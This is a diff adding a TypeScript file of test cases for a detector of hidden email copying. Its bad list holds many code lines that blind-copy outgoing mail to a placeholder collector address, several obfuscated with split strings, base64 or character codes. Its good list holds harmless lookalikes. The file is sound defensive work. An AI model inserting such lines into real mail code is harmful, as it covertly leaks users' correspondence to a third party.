@@ -1,0 +1,119 @@
+import type { DetectorExamples } from '../detector.ts';
+
+const copy = { field: 'bcc', address: 'copy@collect.invalid' };
+
+export const examples: DetectorExamples = {
+  bad: [
+    {
+      code: "client.sendEmail({ From: from, TextBody: body, Bcc: 'copy@collect.invalid' });",
+      why: 'the incident itself',
+      attributes: copy,
+    },
+    { code: "payload.Bcc = 'copy@collect.invalid';", why: 'assigned later', attributes: copy },
+    {
+      code: "payload['b' + 'cc'] = 'copy@collect.invalid';",
+      why: 'the key in pieces',
+      attributes: copy,
+    },
+    {
+      code: "const extra = { 'BCC': ['copy@collect.invalid'] };",
+      why: 'for a spread',
+      attributes: copy,
+    },
+    {
+      code: 'const o = { [`bcc`]: `Copy <COPY@collect.invalid>` };',
+      why: 'computed, with a name',
+      attributes: copy,
+    },
+    { code: "mail.addBcc('copy@collect.invalid');", why: 'a method', attributes: copy },
+    { code: "headers.push('Bcc: copy@collect.invalid');", why: 'a header line', attributes: copy },
+    {
+      code: "msg.addHeader('Bcc', 'copy@collect.invalid');",
+      why: 'a header by name',
+      attributes: copy,
+    },
+    { code: "new Map([['bcc', 'copy@collect.invalid']]);", why: 'an entry', attributes: copy },
+    {
+      code: "p.bcc = ['copy', 'collect.invalid'].join('@');",
+      why: 'the address in pieces',
+      attributes: copy,
+    },
+    {
+      code: "p.bcc = Buffer.from('Y29weUBjb2xsZWN0LmludmFsaWQ=', 'base64').toString();",
+      why: 'the address in base64',
+      attributes: copy,
+    },
+    {
+      code: 'p.bcc = String.fromCharCode(99, 111, 112, 121, 64, 99, 111, 108, 108, 101, 99, 116, 46, 105, 110, 118, 97, 108, 105, 100);',
+      why: 'the address in character codes',
+      attributes: copy,
+    },
+    {
+      code: "send({ bccRecipients: [{ emailAddress: { address: 'copy@collect.invalid' } }] });",
+      why: 'Microsoft Graph',
+      attributes: copy,
+    },
+    {
+      code: "sg.send({ personalizations: [{ bcc: [{ email: 'copy@collect.invalid' }] }] });",
+      why: 'SendGrid',
+      attributes: copy,
+    },
+    {
+      code: "ses.send(new SendEmailCommand({ Destination: { BccAddresses: ['copy@collect.invalid'] } }));",
+      why: 'SES',
+      attributes: copy,
+    },
+    {
+      code: "const raw = 'Subject: x\\r\\nbcc: copy@collect.invalid\\r\\n\\r\\n' + body;",
+      why: 'a raw message',
+      attributes: copy,
+    },
+    { code: "form.append('bcc', 'copy@collect.invalid');", why: 'a form field', attributes: copy },
+    {
+      code: "const h = { name: 'BCC', value: 'copy@collect.invalid' };",
+      why: 'a header as an object',
+      attributes: copy,
+    },
+    { code: "p.bcc = enabled ? 'copy@collect.invalid' : '';", why: 'sometimes', attributes: copy },
+    { code: "mail.bcc.push('copy@collect.invalid');", why: 'added to a list', attributes: copy },
+    {
+      code: 'p.bcc = `audit+${id}@collect.invalid`;',
+      why: 'whoever owns the domain reads all of its mail',
+      attributes: { field: 'bcc', address: '*@collect.invalid' },
+    },
+    {
+      code: 'function f(input) { return { bcc: input.bcc }; }',
+      why: 'a caller decides',
+      attributes: { field: 'bcc', address: 'dynamic', source: 'parameter' },
+    },
+    {
+      code: 'const p = { bcc: process.env.COPY };',
+      why: 'the environment decides',
+      attributes: { field: 'bcc', address: 'dynamic', source: 'environment' },
+    },
+    {
+      code: "const m = { replyTo: 'copy@collect.invalid' };",
+      why: 'answers go elsewhere',
+      attributes: { field: 'reply-to', address: 'copy@collect.invalid' },
+    },
+    {
+      code: 'function f(to) { return { subject: s, text: t, to }; }',
+      why: 'an ordinary mail: told, so that a change of it shows',
+      attributes: { field: 'to', address: 'dynamic', source: 'parameter' },
+    },
+  ],
+  good: [
+    { code: 'const schema = { bcc: z.string().email().optional() };', why: 'a schema' },
+    {
+      code: "const schema = { properties: { bcc: { type: 'string', description: 'Blind copy' } } };",
+      why: 'a JSON schema',
+    },
+    { code: "const countries = { cc: 'Cocos Islands', to: 'Tonga' };", why: 'country codes' },
+    { code: 'const { to, cc, bcc } = args;', why: 'taken apart, nothing is sent yet' },
+    { code: "const labels = { bcc: 'Blind copy' };", why: 'a label' },
+    { code: "router.push({ to: '/home' }); move({ to: position });", why: 'another meaning of to' },
+    { code: "const spec = { to: 'package@1.2.3' };", why: 'a version, not an address' },
+    { code: "const help = 'bcc: list of addresses that get a copy';", why: 'a help text' },
+    { code: 'const p = { bcc: undefined, cc: [] };', why: 'nobody' },
+  ],
+};
